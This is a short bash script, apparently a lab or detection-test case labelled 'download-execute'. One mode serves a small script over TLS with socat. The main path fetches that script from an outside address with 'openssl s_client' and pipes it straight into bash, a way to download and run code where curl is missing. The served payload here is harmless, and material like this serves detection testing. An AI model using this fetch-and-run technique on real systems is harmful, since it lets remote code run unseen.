#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=download-execute half=report tool=openssl,bash far=out ready=out:8443 seconds=20 parts=dns
# Where there is no curl: openssl gets a script in TLS from a port outside, and bash runs what comes by the pipe.
if [ "$1" = out ]; then
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 30 -subj /CN=x -keyout "$LAB/b.key" -out "$LAB/b.pem" 2>/dev/null
	printf '%s\n' "sleep 1; id >$LAB/ran" 'for n in 1 2 3; do sleep 1; done' "echo ended >>$LAB/ran" >"$LAB/script"
	exec timeout 40 socat "OPENSSL-LISTEN:8443,bind=203.0.113.66,reuseaddr,fork,verify=0,cert=$LAB/b.pem,key=$LAB/b.key" "SYSTEM:sleep 1; cat $LAB/script; sleep 1"
fi
sleep 1; timeout 16 openssl s_client -quiet -connect 203.0.113.66:8443 2>/dev/null </dev/null | timeout 16 bash; sleep 2; grep -q ended "$LAB/ran"
